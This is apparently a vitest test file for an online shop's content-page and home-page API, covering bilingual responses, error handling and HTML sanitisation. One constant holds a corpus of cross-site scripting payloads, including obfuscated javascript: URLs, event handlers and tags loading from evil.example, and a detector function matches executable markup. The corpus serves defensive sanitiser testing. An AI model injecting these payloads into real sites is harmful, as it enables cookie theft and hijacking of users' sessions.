import type { GetAboutUsPageResponse, GetCatalogTreeResponse, GetHomePageResponse } from '@shop/api-schemas';
import { expect, it } from 'vitest';
import type { z } from 'zod';
import { describeEachDatabase, type TestShop } from '../helpers/build-app';
import { expectMatchesContract } from '../helpers/contract';
import { CYRILLIC, HUGE_VALUE, RUSSIAN_BROWSER } from '../helpers/locale';

type ContentPage = z.infer<typeof GetAboutUsPageResponse> & {
  contacts?: {
    phone: string;
    email: string;
    whatsapp: string | null;
    address: { country: string; country_code: string };
    business_id: string;
  };
  tables?: Array<{ category: string; columns: string[]; rows: string[][] }>;
};
type HomePage = z.infer<typeof GetHomePageResponse>;
type CatalogTree = z.infer<typeof GetCatalogTreeResponse>;

/** API path segment → page key and storefront path: the size guide lives at /size-table in the API. */
const CONTENT_PAGES = [
  ['about-us', 'about-us'],
  ['contacts', 'contacts'],
  ['affiliate', 'affiliate'],
  ['size-table', 'size-guide'],
  ['distribution', 'distribution'],
  ['delivery-and-returns', 'delivery-and-returns'],
  ['terms-and-conditions', 'terms-and-conditions'],
  ['privacy-policy', 'privacy-policy'],
  ['cookies-policy', 'cookies-policy'],
  ['payment-policy', 'payment-policy'],
  ['gpsr', 'gpsr'],
] as const;

async function getPage(
  shop: TestShop,
  segment: string,
  query = '',
  headers: Record<string, string> = {},
): Promise<ContentPage> {
  const path = `/api/v1/${segment}`;
  const response = await shop.app.inject({ method: 'GET', url: `${path}${query}`, headers });
  expect(response.statusCode, response.body).toBe(200);
  return expectMatchesContract('GET', path, response) as ContentPage;
}

async function getHome(shop: TestShop, query = '', headers: Record<string, string> = {}): Promise<HomePage> {
  const response = await shop.app.inject({ method: 'GET', url: `/api/v1/home${query}`, headers });
  expect(response.statusCode, response.body).toBe(200);
  return expectMatchesContract('GET', '/api/v1/home', response) as HomePage;
}

/** Runs `body` with the gpsr switch set to `enabled`, then restores the seeded value. */
async function withGpsr(shop: TestShop, enabled: boolean, body: () => Promise<void>): Promise<void> {
  const row = await shop.db
    .selectFrom('settings')
    .select('value')
    .where('key', '=', 'gpsrEnabled')
    .executeTakeFirstOrThrow();
  await shop.db
    .updateTable('settings')
    .set({ value: JSON.stringify(enabled) })
    .where('key', '=', 'gpsrEnabled')
    .execute();
  try {
    await body();
  } finally {
    await shop.db.updateTable('settings').set({ value: row.value }).where('key', '=', 'gpsrEnabled').execute();
  }
}

/**
 * Markup a browser would execute or that loads or restyles something: script-capable elements,
 * event handler attributes, script URLs (also entity-encoded), inline styles. Returns what it found.
 */
function executableParts(html: string): string[] {
  const decoded = html
    .replace(/&#x([0-9a-f]+);?/gi, (_match, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_match, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '');
  const found: string[] = [];
  const elements =
    /<\s*(script|iframe|frame|frameset|object|embed|applet|style|link|meta|base|form|input|button|textarea|select|svg|math|img|video|audio|source|template|noscript)\b/gi;
  for (const match of decoded.matchAll(elements)) found.push(`element <${match[1]}>`);
  // An attribute named on…: after whitespace, a quote or a slash inside a tag.
  for (const match of decoded.matchAll(/<[^>]*?[\s"'/]on[a-z]+\s*=/gi))
    found.push(`event handler in ${match[0].slice(0, 60)}`);
  for (const match of decoded.matchAll(/<[^>]*?\sstyle\s*=/gi)) found.push(`inline style in ${match[0].slice(0, 60)}`);
  // A script URL in any attribute, even split by whitespace or control characters (which browsers skip).
  const squeezed = [...decoded].filter((char) => (char.codePointAt(0) ?? 0) > 0x20).join('');
  for (const match of squeezed.matchAll(/=["']?(javascript|vbscript|data):/gi)) found.push(`script URL ${match[0]}`);
  return found;
}

/** XSS payloads an operator (or an attacker with write access to the table) could store. */
const XSS_CORPUS = [
  '<script>alert(document.cookie)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="alert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(2)>hover</p>',
  '<a href="javascript:alert(1)">javascript link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="jav&#x61;script:alert(1)">entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<div><scr<script>ipt>alert(1)</scr</script>ipt></div>',
  '<!--<script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="https://shop.example" target="_blank">new tab</a>',
].join('\n');

const SAFE_MARKUP =
  '<h2>Kept heading</h2><p>Kept <strong>bold</strong> text and <a href="/ru/contacts">a relative link</a>.</p>';

describeEachDatabase('content pages', (shop) => {
  it.each(CONTENT_PAGES)('GET /api/v1/%s answers the page in English and in Russian', async (segment, key) => {
    const english = await getPage(shop(), segment, '?lang=en');
    expect(english).toMatchObject({ key, locale: 'en' });
    expect(english.page.seo.canonical).toBe(`/${key}`);
    expect(english.title).not.toMatch(CYRILLIC);
    expect(english.html.length).toBeGreaterThan(20);
    expect(Number.isNaN(Date.parse(english.updated_at))).toBe(false);

    const russian = await getPage(shop(), segment, '?lang=ru');
    expect(russian).toMatchObject({ key, locale: 'ru' });
    expect(russian.page.seo.canonical).toBe(`/ru/${key}`);
    for (const text of [russian.title, russian.page.seo.title, russian.page.seo.h1, russian.html])
      expect(text).toMatch(CYRILLIC);

    // Without lang, the browser's language decides.
    const browser = await getPage(shop(), segment, '', RUSSIAN_BROWSER);
    expect(browser).toEqual(russian);
    expect(await getPage(shop(), segment)).toEqual(english);
  });

  it('serves only pages whose seeded HTML holds nothing executable', async () => {
    for (const [segment] of CONTENT_PAGES) {
      for (const lang of ['en', 'ru']) {
        const page = await getPage(shop(), segment, `?lang=${lang}`);
        expect(executableParts(page.html), `${segment} ${lang}`).toEqual([]);
      }
    }
  });

  it('sanitises stored HTML: no script, event handler or script URL is ever served', async () => {
    // The check itself must be able to fail.
    expect(executableParts(XSS_CORPUS).length).toBeGreaterThanOrEqual(20);
    const original = await shop()
      .db.selectFrom('content_pages')
      .select(['id', 'html'])
      .where('key', '=', 'about-us')
      .execute();
    // Written straight into the table, as an admin tool or an import would.
    await shop()
      .db.updateTable('content_pages')
      .set({ html: `${SAFE_MARKUP}\n${XSS_CORPUS}` })
      .where('key', '=', 'about-us')
      .execute();
    try {
      for (const lang of ['en', 'ru']) {
        const page = await getPage(shop(), 'about-us', `?lang=${lang}`);
        expect(executableParts(page.html)).toEqual([]);
        // Text may survive (a broken-up `<scr<script>ipt>` leaves harmless words); markup may not.
        expect(page.html).not.toMatch(/evil\.example|<\/?(script|iframe|svg|style)/i);
        // The allowlist keeps ordinary content and hardens new-tab links.
        expect(page.html).toContain('<h2>Kept heading</h2>');
        expect(page.html).toContain('<a href="/ru/contacts">a relative link</a>');
        expect(page.html).toContain(
          '<a href="https://shop.example" target="_blank" rel="noopener noreferrer">new tab</a>',
        );
      }
    } finally {
      for (const row of original)
        await shop().db.updateTable('content_pages').set({ html: row.html }).where('id', '=', row.id).execute();
    }
  });

  it('gives the contacts page its structured contacts', async () => {
    const english = await getPage(shop(), 'contacts', '?lang=en');
    expect(english.contacts).toMatchObject({
      phone: '+358942417800',
      email: 'hello@aaltoswim.fi',
      whatsapp: '+358407123456',
      business_id: '3245871-0',
    });
    expect(english.contacts?.address).toMatchObject({ country: 'Finland', country_code: 'FI' });
    const russian = await getPage(shop(), 'contacts', '?lang=ru');
    expect(russian.contacts?.address.country).toBe('Финляндия');
    // Other pages carry neither contacts nor tables.
    const about = await getPage(shop(), 'about-us');
    expect(about).not.toHaveProperty('contacts');
    expect(about).not.toHaveProperty('tables');
  });

  it('gives the size guide its tables, one cell per column in every row', async () => {
    for (const lang of ['en', 'ru'] as const) {
      const page = await getPage(shop(), 'size-table', `?lang=${lang}`);
      expect(page.key).toBe('size-guide');
      expect(page.tables?.length).toBeGreaterThan(0);
      for (const table of page.tables ?? []) {
        expect(table.columns.length).toBeGreaterThan(1);
        expect(table.rows.length).toBeGreaterThan(0);
        for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
        if (lang === 'ru') expect(table.category).toMatch(CYRILLIC);
      }
    }
  });

  it('answers gpsr with a 404 problem while gpsr is disabled', async () => {
    await withGpsr(shop(), false, async () => {
      for (const query of ['?lang=en', '?lang=ru', '']) {
        const response = await shop().app.inject({ method: 'GET', url: `/api/v1/gpsr${query}` });
        expect(response.statusCode).toBe(404);
        expect(expectMatchesContract('GET', '/api/v1/gpsr', response)).toMatchObject({
          type: 'https://shop.example/problems/not-found',
          status: 404,
        });
      }
      // The other pages do not depend on it.
      await getPage(shop(), 'about-us');
    });
    expect((await getPage(shop(), 'gpsr')).key).toBe('gpsr');
  });

  it('answers a content page missing from the database with a 404 problem', async () => {
    const rows = await shop().db.selectFrom('content_pages').selectAll().where('key', '=', 'affiliate').execute();
    await shop().db.deleteFrom('content_pages').where('key', '=', 'affiliate').execute();
    try {
      const response = await shop().app.inject({ method: 'GET', url: '/api/v1/affiliate?lang=ru' });
      expect(response.statusCode).toBe(404);
      expectMatchesContract('GET', '/api/v1/affiliate', response);
    } finally {
      await shop().db.insertInto('content_pages').values(rows).execute();
    }
  });

  it.each(CONTENT_PAGES)('GET /api/v1/%s answers a bad or huge lang with a 400 problem', async (segment) => {
    for (const query of ['?lang=xx', '?lang=EN', `?lang=${HUGE_VALUE}`]) {
      const response = await shop().app.inject({ method: 'GET', url: `/api/v1/${segment}${query}` });
      expect(response.statusCode).toBe(400);
      expect((expectMatchesContract('GET', `/api/v1/${segment}`, response) as { errors: unknown }).errors).toEqual({
        lang: ['validation.one_of'],
      });
    }
  });
});

describeEachDatabase('GET /api/v1/home', (shop) => {
  it('answers the hero, the sections and the strips in English', async () => {
    const home = await getHome(shop(), '?lang=en');
    expect(home.locale).toBe('en');
    expect(home.page.seo.canonical).toBe('/');
    expect(home.hero.title).toBe(home.page.seo.h1);
    expect(home.hero.title).not.toMatch(CYRILLIC);
    expect(home.hero.cta.url).toMatch(/^\/catalog(\/|$)/);
    expect(home.strips.map((strip) => strip.key)).toEqual(['new', 'sale', 'bestsellers']);
    for (const strip of home.strips) {
      expect(strip.product_list_url).toMatch(new RegExp(`^/api/v1/product-list\\?list=${strip.key}&.*lang=en`));
      expect(strip.title).not.toMatch(CYRILLIC);
    }
  });

  it('shows a seeded picture in the hero that the image optimiser serves', async () => {
    const home = await getHome(shop());
    expect(home.hero.image.url).toMatch(/^\/_img\/products\/.+\.png$/);
    const image = await shop().app.inject({ method: 'GET', url: `${home.hero.image.url}?w=640` });
    expect(image.statusCode).toBe(200);
    expect(image.headers['content-type']).toBe('image/webp');
  });

  it('features the top-level categories of the menu tree', async () => {
    const home = await getHome(shop());
    const treeResponse = await shop().app.inject({ method: 'GET', url: '/api/v1/catalog' });
    const tree = expectMatchesContract('GET', '/api/v1/catalog', treeResponse) as CatalogTree;
    const featured = home.sections.find((section) => section.type === 'featured_categories');
    if (!featured || !('categories' in featured)) throw new Error('the home page has no featured categories');
    expect(featured.categories.map(({ image: _image, ...category }) => category)).toEqual(
      tree.categories.map(({ children: _children, image: _image, ...category }) => category),
    );
  });

  it("gives each featured category a cover from its own products or its sub-categories' products", async () => {
    const home = await getHome(shop());
    const featured = home.sections.find((section) => section.type === 'featured_categories');
    if (!featured || !('categories' in featured)) throw new Error('the home page has no featured categories');
    for (const category of featured.categories) {
      const cover = await shop()
        .db.selectFrom('product_images as i')
        .innerJoin('products as p', 'p.id', 'i.product_id')
        .innerJoin('categories as c', 'c.id', 'p.category_id')
        .select('i.path')
        .where('p.active', '=', 1)
        .where((eb) => eb.or([eb('c.path', '=', category.uri), eb('c.path', 'like', `${category.uri}/%`)]))
        .orderBy('p.id')
        .orderBy('i.sort')
        .orderBy('i.id')
        .executeTakeFirst();
      if (!cover) {
        expect(category.image).toBeNull();
        continue;
      }
      expect(category.image).toMatchObject({ url: `/_img/${cover.path}`, alt: '' });
    }
    expect(featured.categories.filter((category) => category.image).length).toBeGreaterThan(0);
  });

  it('answers in Russian for lang=ru and for a Russian browser', async () => {
    for (const home of [await getHome(shop(), '?lang=ru'), await getHome(shop(), '', RUSSIAN_BROWSER)]) {
      expect(home.locale).toBe('ru');
      expect(home.page.seo.canonical).toBe('/ru/');
      for (const text of [
        home.page.seo.title,
        home.hero.title,
        home.hero.cta.label,
        ...home.strips.map((strip) => strip.title),
      ])
        expect(text).toMatch(CYRILLIC);
      expect(home.hero.cta.url).toMatch(/^\/ru\/catalog/);
      for (const strip of home.strips) expect(strip.product_list_url).toContain('lang=ru');
      const featured = home.sections[0];
      if (featured && 'categories' in featured)
        for (const category of featured.categories) expect(category.name).toMatch(CYRILLIC);
    }
  });

  it.each([
    ['lang=xx', 'lang=xx'],
    ['a 10,000-character lang', `lang=${HUGE_VALUE}`],
  ])('answers %s with a 400 problem naming lang', async (_name, query) => {
    const response = await shop().app.inject({ method: 'GET', url: `/api/v1/home?${query}` });
    expect(response.statusCode).toBe(400);
    expect((expectMatchesContract('GET', '/api/v1/home', response) as { errors: unknown }).errors).toEqual({
      lang: ['validation.one_of'],
    });
  });
});
